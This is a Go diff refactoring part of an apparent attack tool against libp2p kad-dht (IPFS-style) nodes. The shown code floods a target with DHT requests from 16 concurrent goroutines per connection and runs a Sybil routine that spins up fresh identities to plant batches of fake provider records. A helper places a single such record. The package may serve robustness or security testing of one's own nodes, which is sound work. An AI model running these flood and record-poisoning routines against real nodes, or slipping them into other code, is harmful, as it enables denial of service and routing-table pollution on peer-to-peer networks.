@@ -4,7 +4,6 @@ import (
 	"context"
 	"crypto/rand"
 	"errors"
-	"sync"
 	"time"
 
 	"github.com/ipfs/go-cid"
@@ -53,49 +52,25 @@ func dhtAttack(ctx context.Context, name string, t Target, o Options, st *stats)
 // dhtFlood is one id with 16 goroutines sending DHT requests as fast as
 // they go; a closed connection is dialled again.
 func dhtFlood(ctx context.Context, t Target, st *stats) {
-	id, err := NewIdentity()
-	if err != nil {
-		return
-	}
-	st.ids.Add(1)
-	for ctx.Err() == nil {
-		c, err := id.Dial(ctx, t, nil)
-		if err != nil {
-			st.failed.Add(1)
-			Pause(ctx, 100*time.Millisecond)
-			continue
+	holders(ctx, t, 1, 16, 100*time.Millisecond, st, func(c *Conn) {
+		for i := 0; ctx.Err() == nil && !c.IsClosed(); i++ {
+			if i%2 == 0 {
+				c.dhtFindNode(ctx, t, st)
+			} else {
+				c.dhtAddProvider(ctx, t, st)
+			}
 		}
-		st.conns.Add(1)
-		var wg sync.WaitGroup
-		for range 16 {
-			wg.Go(func() {
-				for i := 0; ctx.Err() == nil && !c.IsClosed(); i++ {
-					if i%2 == 0 {
-						c.dhtFindNode(ctx, t, st)
-					} else {
-						c.dhtAddProvider(ctx, t, id, st)
-					}
-				}
-			})
-		}
-		wg.Wait()
-		c.Close()
-	}
+	})
 }
 
 // dhtSybil is one fresh id that puts dhtRecordsPerSybil provider records
 // and leaves.
 func dhtSybil(ctx context.Context, t Target, st *stats) {
-	dctx, cancel := context.WithTimeout(ctx, requestTimeout)
-	defer cancel()
-	c, id := freshConn(dctx, t, st)
-	if c == nil {
-		return
-	}
-	defer c.Close()
-	for range dhtRecordsPerSybil {
-		c.dhtAddProvider(dctx, t, id, st)
-	}
+	withFresh(ctx, t, st, func(dctx context.Context, c *Conn) {
+		for range dhtRecordsPerSybil {
+			c.dhtAddProvider(dctx, t, st)
+		}
+	})
 }
 
 // dhtStream opens a stream of t's DHT protocol.
@@ -127,7 +102,7 @@ func (c *Conn) dhtFindNode(ctx context.Context, t Target, st *stats) {
 // itself, as kad-dht requires, at t's address. ADD_PROVIDER has no
 // answer, and kad-dht resets the stream after a record it took as after
 // one it refused: the node's own counts (status, metrics) tell them apart.
-func (c *Conn) dhtAddProvider(ctx context.Context, t Target, id *Identity, st *stats) {
+func (c *Conn) dhtAddProvider(ctx context.Context, t Target, st *stats) {
 	h := make([]byte, 32)
 	_, _ = rand.Read(h)
 	mh, err := multihash.Encode(h, multihash.SHA2_256)
@@ -141,7 +116,7 @@ func (c *Conn) dhtAddProvider(ctx context.Context, t Target, id *Identity, st *s
 	}
 	defer s.Reset()
 	msg := &pb.Message{Type: pb.Message_ADD_PROVIDER, Key: cid.NewCidV1(cid.Raw, mh).Hash(),
-		ProviderPeers: []*pb.Message_Peer{{Id: []byte(id.ID), Addrs: [][]byte{t.Addr.Bytes()}}}}
+		ProviderPeers: []*pb.Message_Peer{{Id: []byte(c.id.ID), Addrs: [][]byte{t.Addr.Bytes()}}}}
 	_ = s.SetDeadline(time.Now().Add(requestTimeout))
 	if writeDHT(s, msg) != nil {
 		return
@@ -165,12 +140,12 @@ func writeDHT(s network.MuxedStream, m *pb.Message) error {
 // node is done with it (took it or refused it: the wire does not say).
 func PutProviderRecord(ctx context.Context, t Target) error {
 	st := &stats{}
-	c, id := freshConn(ctx, t, st)
+	c, _ := freshConn(ctx, t, st)
 	if c == nil {
 		return errors.New("attack: could not connect to the target")
 	}
 	defer c.Close()
-	c.dhtAddProvider(ctx, t, id, st)
+	c.dhtAddProvider(ctx, t, st)
 	if st.requests.Load() == 0 {
 		return errors.New("attack: no record sent")
 	}
